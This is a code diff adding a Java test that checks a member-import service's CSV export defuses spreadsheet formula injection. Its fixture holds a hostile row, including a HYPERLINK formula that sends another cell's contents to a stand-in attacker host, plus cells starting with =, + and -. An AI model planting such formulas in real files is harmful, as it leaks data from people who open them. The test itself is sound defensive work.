@@ -60,6 +60,35 @@ class MemberImportServiceTest {
     }
 
     @Test
+    void everyExportedCellThatASpreadsheetWouldRunIsWrittenAsText() throws Exception {
+        long id = imports.validate(ORGANISER, "hostile.csv", """
+                name,email,postcode,phone,contact_consent,tags
+                "=HYPERLINK(""https://evil.example?""&B2,""x"")",=cmd@y.io,M1 1AE,+44 161 496 0000,yes,
+                " -2+3",plain@example.org,M1 1AE,,yes,
+                """).id();
+        assertThat(imports.start(ORGANISER, id)).isTrue();
+        awaitDone(id);
+        java.io.StringWriter out = new java.io.StringWriter();
+        members.exportCsv(ORGANISER, new MemberQuery("", "", "", null, MemberQuery.Sort.NEWEST, 1, 10), out);
+
+        var records = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new java.io.StringReader(out.toString())).getRecords();
+        assertThat(records).hasSize(2);
+        var hostile = records.stream().filter(r -> r.get("email").contains("cmd")).findFirst().orElseThrow();
+        assertThat(hostile.get("name")).startsWith("'=HYPERLINK(");
+        assertThat(hostile.get("email")).isEqualTo("'=cmd@y.io");
+        assertThat(hostile.get("phone")).isEqualTo("'+44 161 496 0000");
+        assertThat(records.stream().filter(r -> r.get("email").equals("plain@example.org")).findFirst().orElseThrow()
+                .get("name")).startsWith("'");
+        for (var record : records) {
+            for (String cell : record) {
+                assertThat(cell.stripLeading()).as(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
+                        .doesNotStartWith("-");
+            }
+        }
+    }
+
+    @Test
     void anImportInterruptedByARestartResumesAfterItsLastCommittedBatch() throws Exception {
         int rows = MemberImportService.BATCH * 2 + 7;
         StringBuilder csv = new StringBuilder("name,email,postcode\n");
